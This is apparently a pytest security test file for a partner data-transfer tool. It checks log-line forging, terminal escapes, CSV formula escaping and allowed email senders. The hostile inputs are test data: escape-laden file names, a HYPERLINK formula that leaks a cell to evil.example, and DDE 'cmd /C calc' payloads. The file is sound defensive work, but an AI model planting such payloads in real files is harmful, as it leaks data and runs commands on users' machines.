"""Names are data: partner-controlled text (file names, keys, headers) must not forge log
lines, drive the operator's terminal, or run as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
from collections.abc import Iterator
from dataclasses import replace
from email.message import EmailMessage
from pathlib import Path

import pytest
from dovecot import DovecotServer, MailUser, running_dovecot
from helpers import call_csv
from sshd import Sshd

from connectbatch.cli import main
from connectbatch.engine import Engine, MailboxSettings
from connectbatch.escaping import csv_cell, visible
from connectbatch.models import AfterSuccess, Connection, Direction, Method, Methodology, RunStatus
from connectbatch.services import CredentialInput, Services
from connectbatch.services.base import InvalidInputError
from connectbatch.settings import Settings
from connectbatch.transfer.specs import ImapSpec

pytest_plugins = ["sshd"]

# A new "log line" after the newline, and terminal escapes: set the window title, clear the
# screen, and a bidi override that makes a name read backwards.
EVIL = "calls\n2026-01-01 00:00:00 INFO connectbatch: all loaded\x1b]0;pwned\x07\x1b[2J\u202ecsv.exe.csv"


def test_a_file_name_cannot_forge_log_lines_or_reach_the_terminal(
    services: Services, settings: Settings, sshd_server: Sshd, sftp_folder: Path,
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture,
) -> None:  # fmt: skip
    sshd_server.put(sftp_folder, EVIL, call_csv(2, prefix="evil"), dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    draft = Connection(
        "Partner", "call_conversions", Direction.INBOUND, Method.SFTP, Methodology.PULL,
        host=sshd_server.host, port=sshd_server.port, folder=str(sftp_folder), pattern="*.csv",
        after_success=AfterSuccess.ARCHIVE, archive_folder=f"{sftp_folder}/done",
    )  # fmt: skip
    services.create_connection(draft, CredentialInput("p", sshd_server.user, sshd_server.password))
    monkeypatch.setenv("CONNECTBATCH_HOME", str(settings.home))
    monkeypatch.setenv("CONNECTBATCH_DEBUG", "1")
    caplog.set_level(logging.DEBUG, logger="connectbatch")

    assert main(["pull", "Partner"]) == 0

    archived = [r for r in caplog.records if r.getMessage().startswith("archived ")]
    assert archived, "the archive step logs the file's name"
    for record in caplog.records:
        message = record.getMessage()
        assert "\n" not in message and "\x1b" not in message and "\u202e" not in message
    assert "calls\\n2026-01-01" in archived[0].getMessage() and "\\x1b]0;pwned" in archived[0].getMessage()

    run = services.runs()[0]
    assert run.status is RunStatus.COMPLETED and run.files_loaded == 1
    capsys.readouterr()
    assert main(["run", "show", str(run.id)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "calls\\n2026-01-01" in shown and "\\x1b]0;pwned\\x07" in shown
    assert not any(line.startswith("2026-01-01") for line in shown.splitlines())  # no forged line
    assert main(["run", "show", str(run.id), "--json"]) == 0
    as_json = capsys.readouterr().out
    assert "\x1b" not in as_json and json.loads(as_json)["files"][0]["name"] == EVIL  # data kept exact


def test_the_results_file_never_runs_a_formula(services: Services, settings: Settings) -> None:
    services.create_connection(
        Connection("Acme", "call_conversions", Direction.INBOUND, Method.SFTP, Methodology.PUSH)
    )
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    data = call_csv(
        3, prefix="f",
        overrides={0: {"CallSessionId": formula}, 1: {"CallSessionId": "@SUM(1+1)*cmd|' /C calc'!A0"},
                   2: {"CallSessionId": "+15550100"}},
    )  # fmt: skip

    run = services.ingest_bytes("Acme", "calls.csv", data)

    assert run.status is RunStatus.COMPLETED
    [results] = list(settings.home.rglob(f"run{run.id}-file*.results.csv"))
    cells = [row["CallSessionId"] for row in csv.DictReader(io.StringIO(results.read_text()))]
    # an E.164 key comes back as sent: at most a number in a spreadsheet, and the partner's
    # system must match it
    assert cells == ["'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0", "+15550100"]


def test_an_export_never_runs_a_formula(services: Services) -> None:
    services.create_connection(
        Connection("Acme", "call_conversions", Direction.INBOUND, Method.SFTP, Methodology.PUSH)
    )
    formula = '=HYPERLINK("http://evil.example/","x")'
    services.ingest_bytes(
        "Acme", "calls.csv",
        call_csv(3, prefix="x", overrides={0: {"CallSessionId": formula}, 2: {"CallSessionId": "-1+1"}}),
    )  # fmt: skip
    services.create_connection(
        Connection("Pickup", "call_conversions", Direction.OUTBOUND, Method.SFTP, Methodology.PULL_FROM_US)
    )
    now = dt.datetime.now(dt.UTC)

    path = services.export("Pickup", now - dt.timedelta(days=7), now + dt.timedelta(days=1))

    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    # The export's SQL escapes as csv_cell does: "-1+1" is at most a sum, and comes back as sent.
    assert sorted(r["CallSessionId"] for r in rows) == ["'" + formula, "-1+1", "x-0001"]
    assert all(not r["SaleAmount"].startswith("'") for r in rows)  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("-2+cmd|'/C calc'!A0", "'-2+cmd|'/C calc'!A0"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\r=1", "'\r=1"), ("+1+SUM(A1)", "'+1+SUM(A1)"), ('-HYPERLINK("x")', '\'-HYPERLINK("x")'),
     ("+A1!B2", "'+A1!B2"), ("-{1}", "'-{1}"), ("+1 (555) 010-0000", "'+1 (555) 010-0000"),
     ("+1\n=2", "'+1\n=2"), ("-x;y", "'-x;y"),
     ("+1+1", "+1+1"), ("-2+3", "-2+3"), ("-12.50", "-12.50"), ("+15550100", "+15550100"), ("-abc", "-abc"),
     ("a=b", "a=b"), ("", "")],
)  # fmt: skip
def test_csv_cells(value: str, expected: str) -> None:
    """OWASP: a cell starting with `=`, `@`, tab or CR is escaped, and one starting with `+`
    or `-` once it holds anything that could call a function, reach DDE or another sheet, or
    make a string; an E.164 number or a key that is at most a sum comes back as sent."""
    assert csv_cell(value) == expected


def test_visible_escapes_c0_c1_and_bidi_controls() -> None:
    assert visible("a\nb\r\t\x1b[1m\x9b\x7f\u202e") == "a\\nb\\r\\t\\x1b[1m\\x9b\\x7f\\u202e"
    assert visible("Ünïcødé names stay") == "Ünïcødé names stay"


# --- e-mail push: only the connection's allowed senders -----------------------------------


@pytest.fixture(scope="module")
def dovecot_server() -> Iterator[DovecotServer]:
    with running_dovecot() as running:
        yield running


def _mail(sender: str, to: str, name: str, data: bytes) -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = "daily calls"
    message.set_content("attached")
    message.add_attachment(data, maintype="text", subtype="csv", filename=name)
    return message.as_bytes()


def test_email_push_takes_mail_only_from_allowed_senders(
    dovecot_server: DovecotServer, services: Services
) -> None:
    box: MailUser = dovecot_server.add_user()
    services = Services(replace(services.settings, inbound_mailbox=box.address))
    draft = Connection(
        "Vendor", "call_conversions", Direction.INBOUND, Method.EMAIL, Methodology.PUSH,
        pattern="calls_*.csv",
        transfer=ImapSpec(allowed_senders=("reports@vendor.example", "@ops.vendor.example")),
    )  # fmt: skip
    services.create_connection(draft)
    address = services.inbound_address(services.connection("Vendor"))
    dovecot_server.append(
        box, _mail("Reports <REPORTS@vendor.example>", address, "calls_1.csv", call_csv(2, prefix="ok1"))
    )
    dovecot_server.append(
        box, _mail("bob@ops.vendor.example", address, "calls_2.csv", call_csv(3, prefix="ok2"))
    )
    dovecot_server.append(
        box, _mail("mallory@evil.example", address, "calls_3.csv", call_csv(5, prefix="bad"))
    )
    dovecot_server.append(
        box, _mail("x@vendor.example.evil", address, "calls_4.csv", call_csv(7, prefix="bad"))
    )
    engine = Engine(
        services,
        MailboxSettings(dovecot_server.host, dovecot_server.port, box.username, box.password, "plain"),
    )

    [run] = engine.poll_mailbox()

    assert run.rows_accepted == 5  # 2 + 3 from the allowed senders, nothing from the others
    skipped = {f.name: f.message for f in services.run_files(run.id) if f.state == "skipped"}
    assert set(skipped) == {"message 3 from mallory@evil.example", "message 4 from x@vendor.example.evil"}
    assert all("not on the connection's allowed senders" in (m or "") for m in skipped.values())
    assert engine.poll_mailbox() == []  # refused mail is marked processed: not listed again


def test_allowed_senders_are_checked_and_settable_from_the_cli(
    services: Services, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(InvalidInputError, match="allowed_senders"):
        services.create_connection(
            Connection(
                "Bad",
                "call_conversions",
                Direction.INBOUND,
                Method.EMAIL,
                Methodology.PUSH,
                transfer=ImapSpec(allowed_senders=("not an address",)),
            )
        )
    services.create_connection(
        Connection("Mail", "call_conversions", Direction.INBOUND, Method.EMAIL, Methodology.PUSH)
    )
    monkeypatch.setenv("CONNECTBATCH_HOME", str(settings.home))
    argv = [
        "connection",
        "edit",
        "Mail",
        "--imap-allowed-sender",
        "A@x.example",
        "--imap-allowed-sender",
        "@y.example",
    ]
    assert main(argv) == 0
    spec = Services(settings).connection("Mail").transfer
    assert isinstance(spec, ImapSpec) and spec.allowed_senders == ("a@x.example", "@y.example")


def test_the_apps_log_keeps_a_forged_file_name_on_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    """The Streamlit app has no logging of its own for ConnectBatch: `webapp.app_logging`
    gives it one, escaped like the CLI's."""
    from connectbatch import webapp

    logger = logging.getLogger("connectbatch")
    before = list(logger.handlers), logger.level, logger.propagate
    logger.handlers.clear()  # an app test earlier in the session may have installed one
    logger.propagate = False  # only the app's own handler writes, as in `make run`
    handler = webapp.app_logging()
    try:
        assert webapp.app_logging() is handler  # once per process, whatever reruns
        logging.getLogger("connectbatch.transfer.push").info(
            "upload finished: %s", "calls.csv\n2026-12-04 INFO forged: all good\x1b[2J"
        )
        lines = [line for line in capsys.readouterr().err.splitlines() if "upload finished" in line]
        assert len(lines) == 1 and "\\n2026-12-04" in lines[0] and "\x1b" not in lines[0]
    finally:
        logger.handlers[:], logger.level, logger.propagate = before


@pytest.mark.parametrize("name", [EVIL, "x\x1b[2Jy", "bidi\u202ename"])
def test_a_connection_name_with_control_characters_never_reaches_the_terminal(
    services: Services,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
) -> None:
    """Connection names are data as file names are (the app shows them escaped): `connection
    add --name $'x\\e[2Jy'`, `edit` and `show` printed "connection 9: x" and a screen-clearing
    escape straight to the operator's terminal. The name is kept exact; its line is escaped."""
    monkeypatch.setenv("CONNECTBATCH_HOME", str(settings.home))
    argv = ["connection", "add", "--name", name, "--type", "call_conversions", "--direction", "inbound",
            "--method", "sftp", "--methodology", "push"]  # fmt: skip
    assert main(argv) == 0
    assert main(["connection", "show", name]) == 0
    assert main(["connection", "edit", name, "--lock-days", "7"]) == 0
    out = capsys.readouterr().out
    assert not any(ch in out for ch in ("\x1b", "\u202e", "\x07"))
    assert f"connection 1: {visible(name)}\n" in out
    assert [c.name for c in services.connections()] == [name]  # stored exactly
